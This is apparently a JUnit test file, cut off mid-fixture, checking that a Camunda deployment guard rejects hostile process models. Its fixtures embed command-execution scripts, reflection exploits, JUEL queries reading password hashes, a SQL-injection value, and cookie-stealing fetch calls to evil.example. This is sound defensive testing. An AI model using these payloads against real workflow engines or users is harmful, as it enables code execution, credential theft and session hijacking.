package org.posmaintenance.model;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.posmaintenance.model.ModelContract.PROCESS_ID;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;

import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.ProcessEngineConfiguration;
import org.camunda.bpm.engine.RepositoryService;
import org.camunda.bpm.engine.repository.DeploymentBuilder;
import org.camunda.bpm.engine.runtime.Job;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.posmaintenance.ProcessScenarioTest;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.ContentDisposition;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.util.LinkedMultiValueMap;
import org.springframework.util.MultiValueMap;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

/**
 * An analyst deploys models the way Camunda Modeler and {@code scripts/deploy-models.sh} do: a multipart
 * {@code POST /engine-rest/deployment/create} with HTTP Basic. The deployment guard refuses every model that
 * holds code, reaches for the application's objects or embeds markup, with HTTP 400 naming the resource, the
 * element and the reason, and nothing happens: no deployment, no definition, no job, no journal entry.
 *
 * <p>Every hostile model starts with a timer that is due at once, so that, had it been deployed, a job would
 * exist at once and the job executor would run it. The harmless model with the same timer shows that it would
 * (it is accepted, its timer job is created and runs), and an engine without the guard shows that each hostile
 * model is a valid model that the engine would deploy and schedule.
 */
class DeploymentGuardTest extends ProcessScenarioTest {

    private static final String DEPLOY = "/engine-rest/deployment/create";
    private static final String JOURNAL = "/api/model-deployments";
    private static final String SOURCE = "DeploymentGuardTest";
    private static final ObjectMapper JSON = new ObjectMapper();
    /** The file the hostile commands would create. */
    private static final Path MARKER = Path.of(System.getProperty("java.io.tmpdir"), "pos-guard-pwned-" + UUID.randomUUID());
    private static final String TOUCH_MARKER = "touch " + MARKER;
    private static final String REFLECTION = "''.getClass().forName('java.lang.Runtime').getMethod('getRuntime')"
            + ".invoke(null).exec('" + TOUCH_MARKER + "')";

    @Autowired RepositoryService repositoryService;
    @Autowired TestRestTemplate http;

    private final List<String> deployed = new ArrayList<>();

    @AfterEach
    void withdrawWhatWasDeployed() {
        deployed.forEach(id -> repositoryService.deleteDeployment(id, true));
        assertThat(repositoryService.createProcessDefinitionQuery().processDefinitionKey(PROCESS_ID).latestVersion()
                .singleResult().getVersionTag()).as("the latest version, for the other tests").isEqualTo("1.2.4");
    }

    // ------------------------------------------------------------------------------------------ hostile models

    /** A refusal the answer must report: in this resource, at this element (null: the whole resource), for this reason. */
    record Refusal(String resource, String elementId, String reason) {
    }

    /** A deployment of models (resource name to content), one of which starts the process with the key at once. */
    record Hostile(String description, String processKey, Map<String, String> resources, List<Refusal> refusals) {
        @Override
        public String toString() {
            return description;
        }
    }

    static Stream<Hostile> hostileModels() {
        return Stream.of(
                oneStep("JavaScript script task running a command", "Hostile_JavaScriptTask", "Task_RunJavaScript", """
                        <bpmn:scriptTask id="Task_RunJavaScript" name="Run JavaScript" scriptFormat="javascript">
                          <bpmn:script>java.lang.Runtime.getRuntime().exec('%s')</bpmn:script>
                        </bpmn:scriptTask>""".formatted(TOUCH_MARKER),
                        "script tasks are not allowed"),
                oneStep("JUEL script task reading the password hashes", "Hostile_JuelTask", "Task_RunJuel", """
                        <bpmn:scriptTask id="Task_RunJuel" name="Run JUEL" scriptFormat="juel">
                          <bpmn:script>${jdbcTemplate.queryForList('SELECT ID_, PWD_ FROM ACT_ID_USER')}</bpmn:script>
                        </bpmn:scriptTask>""",
                        "script tasks are not allowed"),
                oneStep("script execution listener", "Hostile_ScriptListener", "Task_WithScriptListener", """
                        <bpmn:task id="Task_WithScriptListener" name="Innocent task">
                          <bpmn:extensionElements>
                            <camunda:executionListener event="start">
                              <camunda:script scriptFormat="javascript">java.lang.Runtime.getRuntime().exec('%s')</camunda:script>
                            </camunda:executionListener>
                          </bpmn:extensionElements>
                        </bpmn:task>""".formatted(TOUCH_MARKER),
                        "scripts are not allowed"),
                branch("script condition on a sequence flow", "Hostile_ScriptCondition", "Flow_ScriptCondition", """
                        <bpmn:conditionExpression xsi:type="bpmn:tFormalExpression" language="javascript">java.lang.Runtime.getRuntime().exec('%s') != null</bpmn:conditionExpression>"""
                                .formatted(TOUCH_MARKER),
                        "a condition in the script language 'javascript': script conditions are not allowed"),
                oneStep("script input parameter", "Hostile_ScriptInput", "Task_WithScriptInput", """
                        <bpmn:task id="Task_WithScriptInput" name="Innocent task">
                          <bpmn:extensionElements>
                            <camunda:inputOutput>
                              <camunda:inputParameter name="pwned">
                                <camunda:script scriptFormat="javascript">java.lang.Runtime.getRuntime().exec('%s')</camunda:script>
                              </camunda:inputParameter>
                            </camunda:inputOutput>
                          </bpmn:extensionElements>
                        </bpmn:task>""".formatted(TOUCH_MARKER),
                        "scripts are not allowed"),
                oneStep("camunda:class on a service task", "Hostile_JavaClass", "Task_JavaClass", """
                        <bpmn:serviceTask id="Task_JavaClass" name="Run a class" camunda:class="com.example.Backdoor" />""",
                        "Java classes are not allowed"),
                oneStep("camunda:expression reading the password hashes", "Hostile_ExpressionTask", "Task_ReadPasswords", """
                        <bpmn:serviceTask id="Task_ReadPasswords" name="Read passwords"
                            camunda:expression="${jdbcTemplate.queryForList('SELECT ID_, PWD_ FROM ACT_ID_USER')}" camunda:resultVariable="users" />""",
                        "expressions as implementations are not allowed"),
                oneStep("reflection in an input parameter running a command", "Hostile_ReflectionInput", "Task_Reflection", """
                        <bpmn:task id="Task_Reflection" name="Innocent task">
                          <bpmn:extensionElements>
                            <camunda:inputOutput>
                              <camunda:inputParameter name="process">${%s}</camunda:inputParameter>
                            </camunda:inputOutput>
                          </bpmn:extensionElements>
                        </bpmn:task>""".formatted(REFLECTION),
                        "calls a method"),
                // the engine reads an input/output parameter's child element by its tag name, in any namespace
                oneStep("reflection in a diagram-namespace element inside an output parameter", "Hostile_ForeignElement",
                        "Task_ForeignElement", """
                        <bpmn:manualTask id="Task_ForeignElement" name="Innocent task">
                          <bpmn:extensionElements>
                            <camunda:inputOutput>
                              <camunda:outputParameter name="leak"><di:v xmlns:di="http://www.omg.org/spec/DD/20100524/DI">${%s}</di:v></camunda:outputParameter>
                            </camunda:inputOutput>
                          </bpmn:extensionElements>
                        </bpmn:manualTask>""".formatted(REFLECTION),
                        "calls a method"),
                oneStep("reflection in a documentation element inside an output parameter", "Hostile_DocumentationValue",
                        "Task_DocumentationValue", """
                        <bpmn:manualTask id="Task_DocumentationValue" name="Innocent task">
                          <bpmn:extensionElements>
                            <camunda:inputOutput>
                              <camunda:outputParameter name="leak"><bpmn:documentation>${%s}</bpmn:documentation></camunda:outputParameter>
                            </camunda:inputOutput>
                          </bpmn:extensionElements>
                        </bpmn:manualTask>""".formatted(REFLECTION),
                        "calls a method"),
                oneStep("a script in the diagram namespace inside an output parameter", "Hostile_ForeignScript",
                        "Task_ForeignScript", """
                        <bpmn:manualTask id="Task_ForeignScript" name="Innocent task">
                          <bpmn:extensionElements>
                            <camunda:inputOutput>
                              <camunda:outputParameter name="leak"><di:script xmlns:di="http://www.omg.org/spec/DD/20100524/DI" scriptFormat="juel">${%s}</di:script></camunda:outputParameter>
                            </camunda:inputOutput>
                          </bpmn:extensionElements>
                        </bpmn:manualTask>""".formatted(REFLECTION),
                        "scripts are not allowed"),
                branch("reflection in a condition running a command", "Hostile_ReflectionCondition", "Flow_ScriptCondition", """
                        <bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${%s != null}</bpmn:conditionExpression>"""
                                .formatted(REFLECTION),
                        "calls a method"),
                oneStep("delegate expression naming a bean that is no hook", "Hostile_BeanDelegate", "Task_BeanDelegate", """
                        <bpmn:serviceTask id="Task_BeanDelegate" name="Use a bean" camunda:delegateExpression="${jdbcTemplate}" />""",
                        "camunda:delegateExpression=\"${jdbcTemplate}\" is not one of the project's delegates and listeners"),
                oneStep("execution listener naming a bean that is no hook", "Hostile_BeanListener", "Task_BeanListener", """
                        <bpmn:task id="Task_BeanListener" name="Innocent task">
                          <bpmn:extensionElements>
                            <camunda:executionListener event="start" delegateExpression="${outboxSender}" />
                          </bpmn:extensionElements>
                        </bpmn:task>""",
                        "camunda:delegateExpression=\"${outboxSender}\" is not one of the project's delegates and listeners"),
                oneStep("service task delegate used as a task listener", "Hostile_HookMisplaced", "Task_HookMisplaced", """
                        <bpmn:userTask id="Task_HookMisplaced" name="Close the ticket early" camunda:candidateGroups="technicians">
                          <bpmn:extensionElements>
                            <camunda:taskListener event="create" delegateExpression="${closeTicket}" />
                          </bpmn:extensionElements>
                        </bpmn:userTask>""",
                        "camunda:delegateExpression=\"${closeTicket}\" is a service task delegate, not allowed on taskListener"),
                oneStep("application bean as an input parameter", "Hostile_BeanInput", "Task_BeanInput", """
                        <bpmn:task id="Task_BeanInput" name="Innocent task">
                          <bpmn:extensionElements>
                            <camunda:inputOutput>
                              <camunda:inputParameter name="identity">${identityService}</camunda:inputParameter>
                            </camunda:inputOutput>
                          </bpmn:extensionElements>
                        </bpmn:task>""",
                        "reads 'identityService', an object of the application"),
                branch("application bean in a condition", "Hostile_BeanCondition", "Flow_ScriptCondition", """
                        <bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${jdbcTemplate != null}</bpmn:conditionExpression>""",
                        "reads 'jdbcTemplate', an object of the application"),
                oneStep("property access to the engine's services in an output parameter", "Hostile_PropertyAccess",
                        "Task_PropertyAccess", """
                        <bpmn:task id="Task_PropertyAccess" name="Innocent task">
                          <bpmn:extensionElements>
                            <camunda:inputOutput>
                              <camunda:outputParameter name="identity">${execution.processEngineServices.identityService}</camunda:outputParameter>
                            </camunda:inputOutput>
                          </bpmn:extensionElements>
                        </bpmn:task>""",
                        "reads a property of an object"),
                oneStep("timer expression calling methods", "Hostile_TimerExpression", "TimerEvent_Tomorrow", """
                        <bpmn:intermediateCatchEvent id="TimerEvent_Tomorrow" name="Tomorrow">
                          <bpmn:timerEventDefinition id="TimerEventDefinition_Tomorrow">
                            <bpmn:timeDate xsi:type="bpmn:tFormalExpression">${dateTime().plusDays(1).toDate()}</bpmn:timeDate>
                          </bpmn:timerEventDefinition>
                        </bpmn:intermediateCatchEvent>""",
                        "calls a method"),
                decision("decision table in JUEL", "Hostile_JuelDecision", "InputExpression_Juel", """
                        <inputExpression id="InputExpression_Juel" typeRef="string" expressionLanguage="juel">
                          <text>${jdbcTemplate.queryForList('SELECT ID_, PWD_ FROM ACT_ID_USER')}</text>
                        </inputExpression>""", """
                        <outputEntry id="OutputEntry_Verdict"><text>"ok"</text></outputEntry>""",
                        "expressionLanguage=\"juel\": decisions may use FEEL only"),
                decision("decision table reading the clock", "Hostile_ClockDecision", "OutputEntry_Today", """
                        <inputExpression id="InputExpression_Anything" typeRef="string"><text>"anything"</text></inputExpression>""", """
                        <outputEntry id="OutputEntry_Today"><text>if today() > date("2027-01-01") then "late" else "ok"</text></outputEntry>""",
                        "a decision may not read the clock"),
                decision("decision table in JavaScript", "Hostile_JavaScriptDecision", "OutputEntry_JavaScript", """
                        <inputExpression id="InputExpression_Anything" typeRef="string"><text>"anything"</text></inputExpression>""", """
                        <outputEntry id="OutputEntry_JavaScript" expressionLanguage="javascript">
                          <text>java.lang.Runtime.getRuntime().exec('%s').toString()</text>
                        </outputEntry>""".formatted(TOUCH_MARKER),
                        "expressionLanguage=\"javascript\": decisions may use FEEL only"),
                embeddedForm(),
                camundaFormWithMarkup(),
                oneStep("activiti namespace with activiti:class", "Hostile_ActivitiClass", "Task_ActivitiClass", """
                        <bpmn:serviceTask id="Task_ActivitiClass" name="Run a class" xmlns:activiti="http://activiti.org/bpmn"
                            activiti:class="com.example.Backdoor" />""",
                        "Java classes are not allowed"),
                oneStep("field injection into a delegate", "Hostile_FieldInjection", "Task_FieldInjection", """
                        <bpmn:serviceTask id="Task_FieldInjection" name="Register ticket" camunda:delegateExpression="${registerTicket}">
                          <bpmn:extensionElements>
                            <camunda:field name="merchantId"><camunda:string>M-100231' OR '1'='1</camunda:string></camunda:field>
                          </bpmn:extensionElements>
                        </bpmn:serviceTask>""",
                        "field injection is not allowed"),
                oneStep("generated form (camunda:formData)", "Hostile_GeneratedForm", "Task_GeneratedForm", """
                        <bpmn:userTask id="Task_GeneratedForm" name="Generated form" camunda:candidateGroups="technicians">
                          <bpmn:extensionElements>
                            <camunda:formData>
                              <camunda:formField id="merchantId" label="Merchant" type="string" />
                            </camunda:formData>
                          </bpmn:extensionElements>
                        </bpmn:userTask>""",
                        "generated forms are not allowed"),
                oneStep("external task handing the ticket's data to any worker", "Hostile_ExternalTask", "Task_ExternalTask", """
                        <bpmn:serviceTask id="Task_ExternalTask" name="Exfiltrate" camunda:type="external" camunda:topic="exfiltrate" />""",
                        "connectors and external tasks are not allowed"),
                oneStep("formRef bound to the deployment without its form", "Hostile_MissingForm", "Task_MissingForm", """
                        <bpmn:userTask id="Task_MissingForm" name="Report fault" camunda:candidateGroups="hotline"
                            camunda:formRef="report-fault" camunda:formRefBinding="deployment" />""",
                        "the deployment holds no form with the id 'report-fault'"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileModels")
    void aHostileModelIsRefusedAndNothingHappens(Hostile hostile) throws IOException {
        EngineState before = engineState();

        ResponseEntity<String> answer = deployAsAnalyst("hostile", hostile.resources());

        assertThat(answer.getStatusCode()).as(answer.getBody()).isEqualTo(HttpStatus.BAD_REQUEST);
        JsonNode body = JSON.readTree(answer.getBody());
        assertThat(body.path("type").asText()).isEqualTo("ParseException");
        String message = body.path("message").asText();
        assertThat(message).startsWith("The deployment is refused, nothing was deployed: ");
        for (Refusal refusal : hostile.refusals()) {
            List<JsonNode> errors = list(body.path("details").path(refusal.resource()).path("errors"));
            JsonNode error = errors.stream()
                    .filter(found -> refusal.elementId() == null ? found.path("mainElementId").asText(null) == null
                            : refusal.elementId().equals(found.path("mainElementId").asText()))
                    .filter(found -> found.path("message").asText().contains(refusal.reason()))
                    .findFirst().orElseThrow(() -> new AssertionError("no error " + refusal + " in " + errors));
            // the message names the resource and repeats the error, which names the element and says why
            assertThat(message).contains(refusal.resource() + ": " + error.path("message").asText());
            if (refusal.elementId() != null) {
                assertThat(error.path("message").asText()).contains(refusal.elementId());
            }
        }

        assertThat(engineState()).as("deployments, jobs, process instances, journal entries").isEqualTo(before);
        assertThat(repositoryService.createProcessDefinitionQuery().processDefinitionKey(hostile.processKey()).count()).isZero();
        assertThat(repositoryService.createDecisionDefinitionQuery().decisionDefinitionKeyLike("Hostile%").count()).isZero();
        assertThat(managementService.createJobQuery().processDefinitionKey(hostile.processKey()).count()).isZero();
        assertThat(MARKER).doesNotExist();
    }

    /** Each hostile model is one the engine would deploy and schedule: the refusal is the guard's, not a parse error. */
    @Test
    void withoutTheGuardEveryHostileModelWouldBeDeployedWithItsTimerDueAtOnce() {
        ProcessEngine unguarded = ProcessEngineConfiguration.createStandaloneInMemProcessEngineConfiguration()
                .setProcessEngineName("unguarded-" + UUID.randomUUID())
                .setJdbcUrl("jdbc:h2:mem:unguarded-" + UUID.randomUUID())
                .setJobExecutorActivate(false)
                .buildProcessEngine();
        try {
            hostileModels().forEach(hostile -> {
                DeploymentBuilder deployment = unguarded.getRepositoryService().createDeployment().name(hostile.description());
                hostile.resources().forEach(deployment::addString);
                deployment.deploy();
                assertThat(unguarded.getManagementService().createJobQuery().processDefinitionKey(hostile.processKey())
                        .timers().executable().count()).as(hostile.description()).isEqualTo(1);
            });
        } finally {
            unguarded.close();
        }
    }

    // ------------------------------------------------------------------------------------------ the harmless control

    @Test
    void aHarmlessTimerStartedModelIsAcceptedRecordedAndItsTimerRuns() throws IOException {
        EngineState before = engineState();

        ResponseEntity<String> answer = deployAsAnalyst("harmless", harmless("Harmless_TimerStarted"));

        assertThat(answer.getStatusCode()).as(answer.getBody()).isEqualTo(HttpStatus.OK);
        String deploymentId = JSON.readTree(answer.getBody()).path("id").asText();
        deployed.add(deploymentId);
        EngineState after = engineState();
        assertThat(after.deployments()).isEqualTo(before.deployments() + 1);
        assertThat(after.jobs()).isEqualTo(before.jobs() + 1);
        assertThat(after.journalEntries()).isEqualTo(before.journalEntries() + 1);

        JsonNode entry = journalEntry(http.withBasicAuth("alan", "alan-demo"), deploymentId);
        assertThat(entry.path("deployedBy").asText()).isEqualTo("alan");
        assertThat(entry.path("source").asText()).isEqualTo(SOURCE);
        assertThat(list(entry.path("resources"))).extracting(JsonNode::asText)
                .singleElement().asString().startsWith("Harmless_TimerStarted.bpmn ");
        assertThat(list(entry.path("definitions"))).extracting(JsonNode::asText).containsExactly("Harmless_TimerStarted:1");

        // the timer is due at once: the job executor would start the process now
        Job timer = managementService.createJobQuery().processDefinitionKey("Harmless_TimerStarted").timers().executable()
                .singleResult();
        assertThat(timer).isNotNull();
        managementService.executeJob(timer.getId());
        assertThat(historyService.createHistoricProcessInstanceQuery().processDefinitionKey("Harmless_TimerStarted")
                .completed().count()).isEqualTo(1);
    }

    // ------------------------------------------------------------------------------------------ the project's models

    @Test
    void theProjectsModelsAndTheRevisedProcessAreAccepted() throws IOException {
        Map<String, byte[]> models = ModelResources.load(getClass().getClassLoader());
        assertThat(models.keySet()).contains("PosTerminalMaintenance.bpmn", "TicketCancellation.bpmn", "FaultTriage.dmn",
                "SlaTargets.dmn", "WarrantyCoverage.dmn", "report-fault.form");

        JsonNode release = accepted(deployAsAnalyst(ModelResources.DEPLOYMENT_NAME, text(models)));
        assertThat(deployedKeysAndTags(release.path("deployedProcessDefinitions"))).containsEntry(PROCESS_ID, "1.2.4")
                .containsOnlyKeys(PROCESS_ID, ModelContract.CANCELLATION_PROCESS_ID, ModelContract.PROCESS_SLA_PAUSE_APPROVAL,
                        ModelContract.PROCESS_CALENDAR_WATCH);
        assertThat(deployedKeysAndTags(release.path("deployedDecisionDefinitions")).keySet())
                .containsExactlyInAnyOrder("FaultTriage", "SlaTargets", "WarrantyCoverage");

        Map<String, String> revision = new LinkedHashMap<>();
        revision.put("PosTerminalMaintenance.bpmn", classpath("revisions/PosTerminalMaintenance-1.3.0.bpmn"));
        text(models).forEach((name, content) -> {
            if (name.endsWith(".dmn") || name.endsWith(".form")) {
                revision.put(name, content);
            }
        });
        JsonNode revised = accepted(deployAsAnalyst(ModelResources.DEPLOYMENT_NAME, revision));
        assertThat(deployedKeysAndTags(revised.path("deployedProcessDefinitions"))).containsOnly(Map.entry(PROCESS_ID, "1.3.0"));
        assertThat(repositoryService.createProcessDefinitionQuery().processDefinitionKey(PROCESS_ID).latestVersion()
                .singleResult().getVersionTag()).isEqualTo("1.3.0");
    }

    // ------------------------------------------------------------------------------------------ the journal

    @Test
    void managersReadTheJournalNewestFirstOthersDoNot() throws IOException {
        setClock(WEDNESDAY_10_00);
        String older = accepted(deployAsAnalyst("harmless", harmless("Harmless_Older"))).path("id").asText();
        setClock(WEDNESDAY_10_00.plusSeconds(60));
        String newer = accepted(deployAsAnalyst("harmless", harmless("Harmless_Newer"))).path("id").asText();

        ResponseEntity<String> read = http.withBasicAuth("mary", "mary-demo").getForEntity(JOURNAL + "?limit=500", String.class);
        assertThat(read.getStatusCode()).isEqualTo(HttpStatus.OK);
        List<JsonNode> entries = list(JSON.readTree(read.getBody()));
        assertThat(entries).allSatisfy(entry -> assertThat(entry.fieldNames()).toIterable().contains("deploymentId", "name",
                "source", "deployedBy", "deployedAt", "resources", "definitions"));
        List<Instant> times = entries.stream().map(entry -> Instant.parse(entry.path("deployedAt").asText())).toList();
        assertThat(times).isSortedAccordingTo((a, b) -> b.compareTo(a));
        List<String> ids = entries.stream().map(entry -> entry.path("deploymentId").asText()).toList();
        assertThat(ids).containsSubsequence(newer, older);
        JsonNode newest = entries.get(ids.indexOf(newer));
        assertThat(newest.path("name").asText()).isEqualTo("harmless");
        assertThat(Instant.parse(newest.path("deployedAt").asText())).isEqualTo(WEDNESDAY_10_00.plusSeconds(60));
        assertThat(list(JSON.readTree(http.withBasicAuth("mary", "mary-demo").getForEntity(JOURNAL + "?limit=1", String.class)
                .getBody()))).hasSize(1);

        assertThat(http.withBasicAuth("tom", "tom-demo").getForEntity(JOURNAL, String.class).getStatusCode())
                .isEqualTo(HttpStatus.FORBIDDEN);
        assertThat(http.getForEntity(JOURNAL, String.class).getStatusCode()).isEqualTo(HttpStatus.UNAUTHORIZED);
        for (String limit : List.of("0", "abc", "501")) {
            ResponseEntity<String> refused = http.withBasicAuth("mary", "mary-demo").getForEntity(JOURNAL + "?limit=" + limit,
                    String.class);
            assertThat(refused.getStatusCode()).as("limit=" + limit).isEqualTo(HttpStatus.BAD_REQUEST);
            assertThat(JSON.readTree(refused.getBody()).path("field").asText()).isEqualTo("limit");
        }
    }

    // ------------------------------------------------------------------------------------------ helpers

    /** What a refused deployment must leave as it was. */
    record EngineState(long deployments, long jobs, long processInstances, long journalEntries) {
    }

    private EngineState engineState() {
        return new EngineState(repositoryService.createDeploymentQuery().count(), managementService.createJobQuery().count(),
                historyService.createHistoricProcessInstanceQuery().count(),
                jdbc.queryForObject("SELECT COUNT(*) FROM model_deployment", Long.class));
    }

    /** Deploys as alan, the demo analyst, the way Camunda Modeler and scripts/deploy-models.sh do. */
    private ResponseEntity<String> deployAsAnalyst(String name, Map<String, String> resources) {
        MultiValueMap<String, Object> parts = new LinkedMultiValueMap<>();
        parts.add("deployment-name", name);
        parts.add("deployment-source", SOURCE);
        resources.forEach((fileName, content) -> {
            HttpHeaders part = new HttpHeaders();
            part.setContentDisposition(ContentDisposition.formData().name(fileName).filename(fileName).build());
            part.setContentType(MediaType.APPLICATION_OCTET_STREAM);
            parts.add(fileName, new HttpEntity<>(content.getBytes(UTF_8), part));
        });
        HttpHeaders headers = new HttpHeaders();
        headers.setContentType(MediaType.MULTIPART_FORM_DATA);
        return http.withBasicAuth("alan", "alan-demo").postForEntity(DEPLOY, new HttpEntity<>(parts, headers), String.class);
    }

    /** The body of an accepted deployment, whose id is withdrawn after the test. */
    private JsonNode accepted(ResponseEntity<String> answer) throws IOException {
        assertThat(answer.getStatusCode()).as(answer.getBody()).isEqualTo(HttpStatus.OK);
        JsonNode body = JSON.readTree(answer.getBody());
        deployed.add(body.path("id").asText());
        return body;
    }

    private JsonNode journalEntry(TestRestTemplate reader, String deploymentId) throws IOException {
        ResponseEntity<String> read = reader.getForEntity(JOURNAL, String.class);
        assertThat(read.getStatusCode()).isEqualTo(HttpStatus.OK);
        return list(JSON.readTree(read.getBody())).stream().filter(entry -> entry.path("deploymentId").asText().equals(deploymentId))
                .findFirst().orElseThrow(() -> new AssertionError("no journal entry for deployment " + deploymentId));
    }

    /** The keys and version tags of the definitions of a deployment answer (a map by definition id). */
    private static Map<String, String> deployedKeysAndTags(JsonNode definitions) {
        Map<String, String> keys = new LinkedHashMap<>();
        definitions.elements().forEachRemaining(definition ->
                keys.put(definition.path("key").asText(), definition.path("versionTag").asText(null)));
        return keys;
    }

    private static List<JsonNode> list(JsonNode array) {
        return StreamSupport.stream(array.spliterator(), false).toList();
    }

    private static Map<String, String> text(Map<String, byte[]> resources) {
        Map<String, String> text = new LinkedHashMap<>();
        resources.forEach((name, content) -> text.put(name, new String(content, UTF_8)));
        return text;
    }

    private static String classpath(String name) {
        try (InputStream in = DeploymentGuardTest.class.getClassLoader().getResourceAsStream(name)) {
            assertThat(in).as(name).isNotNull();
            return new String(in.readAllBytes(), UTF_8);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    // ------------------------------------------------------------------------------------------ model builders

    /** A process that starts at once (a timer due in 2020) and runs these elements, which end at EndEvent_Done. */
    private static String timerStarted(String key, String elements) {
        return """
                <?xml version="1.0" encoding="UTF-8"?>
                <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
                    xmlns:camunda="http://camunda.org/schema/1.0/bpmn" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
                    id="Definitions_KEY" targetNamespace="http://bpmn.io/schema/bpmn">
                  <bpmn:process id="KEY" name="KEY" isExecutable="true" camunda:historyTimeToLive="1">
                    <bpmn:startEvent id="StartEvent_AtOnce" name="At once">
                      <bpmn:timerEventDefinition>
                        <bpmn:timeDate xsi:type="bpmn:tFormalExpression">2020-01-01T00:00:00Z</bpmn:timeDate>
                      </bpmn:timerEventDefinition>
                    </bpmn:startEvent>
                ELEMENTS
                    <bpmn:endEvent id="EndEvent_Done" name="Done" />
                  </bpmn:process>
                </bpmn:definitions>
                """.replace("KEY", key).replace("ELEMENTS", elements.indent(4));
    }

    /** Start at once, this one element, end. */
    private static String oneStepModel(String key, String elementId, String element) {
        return timerStarted(key, element + """

                <bpmn:sequenceFlow id="Flow_In" sourceRef="StartEvent_AtOnce" targetRef="%1$s" />
                <bpmn:sequenceFlow id="Flow_Out" sourceRef="%1$s" targetRef="EndEvent_Done" />""".formatted(elementId));
    }

    private static Map<String, String> harmless(String key) {
        return Map.of(key + ".bpmn", oneStepModel(key, "Task_Nothing", """
                <bpmn:task id="Task_Nothing" name="Nothing to do" />"""));
    }

    private static Hostile oneStep(String description, String key, String elementId, String element, String reason) {
        String resource = key + ".bpmn";
        return new Hostile(description, key, Map.of(resource, oneStepModel(key, elementId, element)),
                List.of(new Refusal(resource, elementId, reason)));
    }

    /** Start at once, then a gateway whose flow Flow_ScriptCondition has this condition (the default flow has none). */
    private static Hostile branch(String description, String key, String flowId, String condition, String reason) {
        String resource = key + ".bpmn";
        String model = timerStarted(key, """
                <bpmn:sequenceFlow id="Flow_In" sourceRef="StartEvent_AtOnce" targetRef="Gateway_Route" />
                <bpmn:exclusiveGateway id="Gateway_Route" name="Route?" default="Flow_Otherwise" />
                <bpmn:sequenceFlow id="%s" name="Condition" sourceRef="Gateway_Route" targetRef="EndEvent_Done">
                %s
                </bpmn:sequenceFlow>
                <bpmn:sequenceFlow id="Flow_Otherwise" name="Otherwise" sourceRef="Gateway_Route" targetRef="EndEvent_Done" />"""
                .formatted(flowId, condition.indent(2).stripTrailing()));
        return new Hostile(description, key, Map.of(resource, model), List.of(new Refusal(resource, flowId, reason)));
    }

    /** A decision table (key = process key) with this input expression and output entry, evaluated by a business rule task. */
    private static Hostile decision(String description, String key, String elementId, String inputExpression,
                                    String outputEntry, String reason) {
        String bpmn = oneStepModel(key, "Task_Decide", """
                <bpmn:businessRuleTask id="Task_Decide" name="Decide" camunda:decisionRef="%s"
                    camunda:mapDecisionResult="singleEntry" camunda:resultVariable="verdict" />""".formatted(key));
        String dmn = """
                <?xml version="1.0" encoding="UTF-8"?>
                <definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" xmlns:camunda="http://camunda.org/schema/1.0/dmn"
                    id="Definitions_KEY" name="KEY" namespace="http://camunda.org/schema/1.0/dmn">
                  <decision id="KEY" name="KEY" camunda:historyTimeToLive="1">
                    <decisionTable id="DecisionTable_KEY">
                      <input id="Input_Anything" label="Anything">
                INPUT_EXPRESSION
                      </input>
                      <output id="Output_Verdict" name="verdict" typeRef="string" />
                      <rule id="Rule_Always">
                        <inputEntry id="InputEntry_Any"><text>-</text></inputEntry>
                OUTPUT_ENTRY
                      </rule>
                    </decisionTable>
                  </decision>
                </definitions>
                """.replace("KEY", key).replace("INPUT_EXPRESSION", inputExpression.indent(8).stripTrailing())
                .replace("OUTPUT_ENTRY", outputEntry.indent(8).stripTrailing());
        Map<String, String> resources = new LinkedHashMap<>();
        resources.put(key + ".bpmn", bpmn);
        resources.put(key + ".dmn", dmn);
        return new Hostile(description, key, resources, List.of(new Refusal(key + ".dmn", elementId, reason)));
    }

    /** A user task with an embedded HTML form from the deployment, and that HTML page with its script. */
    private static Hostile embeddedForm() {
        String key = "Hostile_EmbeddedForm";
        Map<String, String> resources = new LinkedHashMap<>();
        resources.put(key + ".bpmn", oneStepModel(key, "Task_EmbeddedForm", """
                <bpmn:userTask id="Task_EmbeddedForm" name="Embedded form" camunda:candidateGroups="technicians"
                    camunda:formKey="embedded:deployment:evil.html" />"""));
        resources.put("evil.html", """
                <form role="form">
                  <script cam-script type="text/form-script">
                    fetch('https://evil.example/steal?session=' + document.cookie);
                  </script>
                </form>
                """);
        return new Hostile("embedded HTML form (camunda:formKey) with its .html resource", key, resources, List.of(
                new Refusal(key + ".bpmn", "Task_EmbeddedForm", "embedded and external forms are not allowed"),
                new Refusal("evil.html", null, "only BPMN (.bpmn), DMN (.dmn) and Camunda Forms (.form) may be deployed")));
    }

    /** A user task with a Camunda Form that holds an html component and, in a group, an iframe. */
    private static Hostile camundaFormWithMarkup() {
        String key = "Hostile_FormMarkup";
        Map<String, String> resources = new LinkedHashMap<>();
        resources.put(key + ".bpmn", oneStepModel(key, "Task_FormMarkup", """
                <bpmn:userTask id="Task_FormMarkup" name="Confirm" camunda:candidateGroups="technicians"
                    camunda:formRef="hostile-form" camunda:formRefBinding="deployment" />"""));
        resources.put("hostile-form.form", """
                {
                  "id": "hostile-form",
                  "type": "default",
                  "schemaVersion": 16,
                  "components": [
                    {"type": "html", "id": "Html_StealSession",
                     "content": "<img src=x onerror=\\"fetch('https://evil.example/steal?session=' + document.cookie)\\">"},
                    {"type": "group", "id": "Group_Details", "label": "Details", "components": [
